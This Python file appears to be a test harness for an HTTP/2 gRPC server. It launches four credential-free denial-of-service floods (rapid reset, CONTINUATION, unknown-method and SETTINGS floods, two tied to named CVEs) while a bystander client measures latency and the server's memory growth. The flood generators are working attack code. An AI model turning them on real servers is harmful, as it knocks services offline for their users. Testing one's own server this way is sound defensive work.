#!/usr/bin/env python3
"""Floods that need no credentials, and the bystander who calls meanwhile.

As a program it is one of them: floods.py FLOOD|bystander PORT SECONDS [--ca FILE] [--source ADDRESS]
[--token TOKEN]; what came of it goes to standard output as JSON. run() starts several and watches.
"""
import argparse
import json
import os
import signal
import ssl
import subprocess
import sys
import threading
import time

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, SETTINGS, Link,
                   call, frame, literal, message)

LISTING = b"/vantage.v1.SessionService/ListSessions"
UNKNOWN = b"/vantage.v1.SessionService/NoSuchMethod"
CANCEL = b"\0\0\0\x08"
SECONDS = 6
# A flood is over when the server has taken so much more, MB, so that the machine survives it.
ENOUGH_MB = 1000
EVERY_SECONDS = 0.02  # a bystander's call


def resets(scheme):
    """Calls that are reset at once (CVE-2023-44487)."""
    headers = call(LISTING, scheme=scheme)
    stream = 1
    while True:
        yield 200, b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, headers)
                            + frame(RST_STREAM, 0, one, CANCEL)
                            for one in range(stream, stream + 400, 2))
        stream += 400


def continuations(scheme):
    """A call whose headers never end (CVE-2024-27316 and its like)."""
    yield 1, frame(HEADERS, 0, 1, call(LISTING, scheme=scheme))
    block = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 150) * 10
    while True:
        yield 10, block


def unknown(scheme):
    """Whole calls of a method that there is not."""
    headers = call(UNKNOWN, scheme=scheme)
    stream = 1
    while True:
        yield 100, b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, headers)
                            for one in range(stream, stream + 200, 2))
        stream += 200


def settings(_):
    """Settings, each of which has to be acknowledged."""
    block = frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64" * 10) * 400
    while True:
        yield 400, block


FLOODS = {"resets": resets, "continuations": continuations, "unknown": unknown,
          "settings": settings}


def connect(given):
    context = None
    if given.ca:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.load_verify_locations(given.ca)
        context.set_alpn_protocols(["h2"])
    return Link(given.port, source=given.source, tls=context)


def drain(link):
    """Throws away what has come; without this the server's answers pile up."""
    link.socket.setblocking(False)
    try:
        while link.socket.recv(1 << 20):
            pass
        link.closed = True
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    except OSError:
        link.closed = True
    link.socket.settimeout(1)


def flood(given):
    """On one connection after the other, as long as there is time."""
    os.nice(10)  # an attacker's processor time is not this machine's
    until, sent, connections = time.monotonic() + given.seconds, 0, 0
    over = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: over.set())
    while time.monotonic() < until and not over.is_set():
        try:
            link = connect(given)
        except OSError:
            time.sleep(0.01)
            continue
        connections += 1
        link.socket.settimeout(1)
        for count, data in FLOODS[given.what](b"https" if given.ca else b"http"):
            if time.monotonic() > until or over.is_set() or not link.send(data):
                break
            sent += count
            if not given.deaf:
                drain(link)
        link.close()
    return {"sent": sent, "connections": connections}


def watch(seconds, connect_anew, call_well):
    """One call after the other on one connection: seconds each took, and how many failed.
    connect_anew() -> a link; call_well(link) -> whether it was answered as it should be."""
    took, failed, link = [], 0, None
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        begun = time.monotonic()
        try:
            link = link or connect_anew()
            well = call_well(link)
        except OSError:
            well = False
        took.append(time.monotonic() - begun)
        if not well:
            failed += 1
            if link is not None:
                link.close()
            link = None
        time.sleep(max(0.0, EVERY_SECONDS - took[-1]))
    took.sort()
    return {"calls": len(took), "failed": failed, "p50_ms": round(1e3 * took[len(took) // 2], 1),
            "p99_ms": round(1e3 * took[len(took) * 99 // 100], 1)}


def bystander(given):
    headers = [literal(b"authorization", b"Bearer " + given.token.encode())] if given.token else []
    headers = call(LISTING, *headers, scheme=b"https" if given.ca else b"http")
    stream = 1

    def begin():
        nonlocal stream
        stream = 1
        return connect(given)

    def call_well(link):
        nonlocal stream
        link.send(frame(HEADERS, END_HEADERS, stream, headers)
                  + frame(DATA, END_STREAM, stream, message(b"")))
        stream += 2
        # A refusal has headers alone.
        frames = link.read_frames(HEADERS, patience=5)
        if not any(kind == DATA for kind, _, _, _ in frames):
            frames = link.read_frames(DATA, patience=5)
        return any(kind == DATA for kind, _, _, _ in frames) and not link.closed
    return watch(given.seconds, begin, call_well)


def memory_mb(process, field="VmHWM"):
    """Of a process: the most that it has held, or what it holds (VmRSS); 0: it has ended."""
    try:
        with open(f"/proc/{process.pid}/status") as file:
            for line in file:
                if line.startswith(field + ":"):
                    return int(line.split()[1]) * 1024 / 1e6
    except OSError:
        pass
    return 0


def run(kind, port, processes, ca=None, seconds=SECONDS, script=__file__):
    """Floods a server over two connections, of which one reads the answers and one does not.

    The processes, by name, are those that are watched. `ca`: whose TLS the server speaks.
    `script` floods and stands by in processes of its own, with the arguments of this one.

    Answers what was sent, what each process grew by at most (MB), and how the bystander fared.
    """
    def start(what, *more):
        command = [sys.executable, "-B", script, what, str(port), str(seconds), *more]
        return subprocess.Popen(command + (["--ca", ca] if ca else []), stdout=subprocess.PIPE,
                                text=True)
    before = {name: memory_mb(process, "VmRSS") for name, process in processes.items()}

    def growth(name):
        return round(memory_mb(processes[name]) - before[name])
    witness = start("bystander", "--source", "127.0.0.9")
    floods = [start(kind), start(kind, "--deaf")]
    begun, stopped = time.monotonic(), None
    while any(one.poll() is None for one in floods) and stopped is None:
        if any(growth(name) > ENOUGH_MB for name in processes):
            stopped = round(time.monotonic() - begun, 1)
            for one in floods:
                one.terminate()
        time.sleep(0.05)
    sent = 0
    for one in floods:
        said, _ = one.communicate()
        sent += json.loads(said)["sent"] if said else 0
    seen = json.loads(witness.communicate()[0])
    return {"sent": sent, "stopped_after_s": stopped, **seen,
            **{f"{name}_mb": growth(name) for name in processes}}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("what", choices=[*FLOODS, "bystander"])
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--ca", help="speak TLS; whom to believe")
    parser.add_argument("--source", help="address to come from")
    parser.add_argument("--deaf", action="store_true", help="never read an answer")
    parser.add_argument("--token", help="what the bystander shows")
    given = parser.parse_args()
    print(json.dumps(bystander(given) if given.what == "bystander" else flood(given)))


if __name__ == "__main__":
    main()
